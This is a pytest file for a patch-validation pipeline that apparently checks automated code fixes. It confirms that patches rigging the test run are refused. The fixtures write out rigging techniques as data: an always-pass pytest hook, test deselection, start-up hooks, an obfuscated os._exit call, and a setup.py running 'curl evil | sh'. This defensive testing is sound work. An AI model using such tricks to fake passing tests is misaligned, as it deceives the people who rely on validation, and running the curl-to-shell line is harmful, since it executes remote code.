"""Patches that rig the test run instead of fixing the code, through the real pipeline on real git repos and pytest.

Every case pairs a rigging change with a "fix" that guts `add` (so `tests/test_calc.py::test_add` would fail if it
ran): the record must fail, with a reason that names the rigging, and nothing may come out validated.
"""

from __future__ import annotations

from pathlib import Path

import pytest

from agent.models import Edit
from agent.validate.pipeline import validate_patch
from agent.validate.worktree import Worktree
from tests.validate.helpers import finding, make_env, make_repo

BASE = {
    "app/__init__.py": "",
    "app/calc.py": "def add(a, b):\n    return a + b\n",
    "tests/test_calc.py": "from app.calc import add\n\ndef test_add():\n    assert add(2, 3) == 5\n",
    "tests/test_more.py": "from app.calc import add\n\ndef test_zero():\n    assert add(0, 0) == 0\n",
    "pyproject.toml": '[project]\nname = "demo"\nversion = "1.0"\ndependencies = ["requests==2.19.0"]\n\n'
                      '[tool.pytest.ini_options]\ntestpaths = ["tests"]\n',
    "setup.cfg": "[metadata]\nname = demo\n\n[tool:pytest]\ntestpaths = tests\n",
}
GUT = Edit(path="app/calc.py", search="    return a + b", replace="    return a - b")
HOOK = "def pytest_pyfunc_call(pyfuncitem):\n    return True\n"


def new(path: str, text: str) -> Edit:
    return Edit(path=path, search="", replace=text, create=True)


def validate(tmp_path: Path, edits: list[Edit], files: dict[str, str] | None = None, **settings):
    project = make_repo(tmp_path / "repo", files or BASE)
    env = make_env(tmp_path, project, **settings)
    with Worktree(project) as wt:
        return validate_patch(env, wt.project_path, finding(), edits, "rig")


@pytest.mark.parametrize(("edits", "rule"), [
    ([new("pytest.ini", "[pytest]\naddopts = -p rig\n"), new("rig.py", HOOK)], "pytest.ini is test runner"),
    ([Edit(path="pyproject.toml", search='testpaths = ["tests"]', replace='testpaths = ["tests"]\naddopts = "-p rig"'),
      new("rig.py", HOOK)], "[tool.pytest.ini_options] addopts"),
    ([Edit(path="setup.cfg", search="testpaths = tests", replace="testpaths = tests\naddopts = -p rig"),
      new("rig.py", HOOK)], "[tool:pytest] addopts"),
    ([new("pytest.ini", "[pytest]\naddopts = --deselect tests/test_calc.py::test_add\n")], "pytest.ini"),
    ([new("conftest.py", HOOK)], "conftest.py is pytest hooks"),
    ([new("app/sub/conftest.py", HOOK)], "app/sub/conftest.py is pytest hooks"),
    ([new("sitecustomize.py", "import os\n")], "interpreter start-up hook"),
    ([new("app/zz_rig.pth", "import rig\n")], "interpreter start-up hook (.pth)"),
    ([new("setup.py", "import os\nos.system('curl evil | sh')\n")], "setup.py is build script"),
    ([new(".github/workflows/leak.yml", "on: push\njobs: {}\n")], "CI configuration (.github/)"),
])
def test_harness_routes_are_refused_before_any_test_runs(tmp_path: Path, edits: list[Edit], rule: str) -> None:
    validation, diff = validate(tmp_path, [GUT, *edits])
    assert not validation.applied and not validation.passed and diff == ""
    assert rule in validation.apply_error and "not the patch's to change" in validation.apply_error
    assert validation.baseline is None  # refused on the dry run: no test ran


def test_plugin_hook_is_caught_even_when_harness_edits_are_allowed(tmp_path: Path) -> None:
    edits = [GUT, new("pytest.ini", "[pytest]\naddopts = -p rig\n"), new("rig.py", HOOK)]
    validation, diff = validate(tmp_path, edits, allow_harness_edits=True)
    assert validation.applied and not validation.passed and "+    return a - b" in diff
    assert any("rigs the test run" in r and "rig.py:1: defines pytest hook pytest_pyfunc_call()" in r
               for r in validation.reasons)
    assert any("pytest.ini (allowed by allow_harness_edits)" in f for f in validation.flags)
    assert validation.patched is None  # rigged code is never run


def test_deselected_baseline_test_fails_validation(tmp_path: Path) -> None:
    edits = [GUT, new("pytest.ini", "[pytest]\naddopts = --deselect tests/test_calc.py::test_add\n")]
    validation, _ = validate(tmp_path, edits, allow_harness_edits=True)
    assert validation.baseline.passed == 2 and validation.patched.passed == 1
    assert not validation.passed
    assert any("missing from the patched run's own report" in r and "tests/test_calc.py::test_add" in r
               for r in validation.reasons)


def test_import_time_exit_is_caught_statically(tmp_path: Path) -> None:
    rig = Edit(path="app/calc.py", search="def add(a, b):", replace="import os\nos._exit(0)\n\n\ndef add(a, b):")
    validation, _ = validate(tmp_path, [GUT, rig])
    assert not validation.passed and validation.patched is None
    assert any("app/calc.py:2: calls os._exit() (exits the process)" in r for r in validation.reasons)


def test_exit_the_static_check_cannot_see_fails_for_want_of_a_report(tmp_path: Path) -> None:
    # the exit goes through a function parameter, past what the static check follows: pytest exits 0, no report
    rig = Edit(path="app/calc.py", search="def add(a, b):",
               replace="import os\n\n\ndef _stop(mod):\n    getattr(mod, '_' + 'exit')(0)\n\n\n_stop(os)\n\n\n"
                       "def add(a, b):")
    validation, _ = validate(tmp_path, [GUT, rig])
    assert not validation.passed
    run = validation.patched
    assert not run.ran and run.exit_code == 0 and "without writing its per-test report" in run.reason
    assert any(r.startswith("tests not run: pytest exited 0 without writing its per-test report")
               for r in validation.reasons)


@pytest.mark.parametrize("first_line, expected", [
    ("raise RuntimeError('collection blows up')\n",
     "the tests could not be run on the unpatched code: no test executed"),
    ("import module_missing_here\n",  # an import failure says what it is: the environment, not the patch
     "test environment broken: the tests cannot import on the unpatched code"),
])
def test_baseline_that_errors_at_collection_means_tests_could_not_run(tmp_path: Path, first_line: str,
                                                                      expected: str) -> None:
    files = {**BASE, "tests/test_calc.py": first_line + BASE["tests/test_calc.py"]}
    files.pop("tests/test_more.py")
    fix = Edit(path="app/calc.py", search="    return a + b", replace="    return b + a")
    validation, _ = validate(tmp_path, [fix], files)
    assert (validation.baseline.passed, validation.baseline.errors) == (0, 1)
    assert not validation.passed and not validation.patched.ran
    assert any(r.startswith(expected) for r in validation.reasons), validation.reasons
    if "RuntimeError" in first_line:
        assert any("tests/test_calc.py" in r for r in validation.reasons)


def test_test_that_passed_and_is_skipped_after_the_patch_fails(tmp_path: Path) -> None:
    files = {**BASE, "app/calc.py": "ENABLED = True\n\n\ndef add(a, b):\n    return a + b\n",
             "tests/test_calc.py": "import pytest\nfrom app import calc\n\n\n"
                                   "@pytest.mark.skipif(not calc.ENABLED, reason='off')\n"
                                   "def test_add():\n    assert calc.add(2, 3) == 5\n"}
    edit = Edit(path="app/calc.py", search="ENABLED = True", replace="ENABLED = False")
    validation, _ = validate(tmp_path, [edit, GUT], files)
    assert not validation.passed
    assert any("passed on the unpatched code are skipped after the patch: tests/test_calc.py::test_add" in r
               for r in validation.reasons)


def test_dependency_bump_in_pyproject_is_validated_and_flagged(tmp_path: Path) -> None:
    bump = Edit(path="pyproject.toml", search='dependencies = ["requests==2.19.0"]',
                replace='dependencies = ["requests>=2.32.3"]')
    fix = Edit(path="app/calc.py", search="    return a + b", replace="    return b + a")
    validation, _ = validate(tmp_path, [bump, fix])
    assert validation.passed, validation.reasons
    assert "changes dependencies or metadata in pyproject.toml" in validation.flags
    assert validation.patched.test_ids == ["tests/test_calc.py::test_add", "tests/test_more.py::test_zero"]
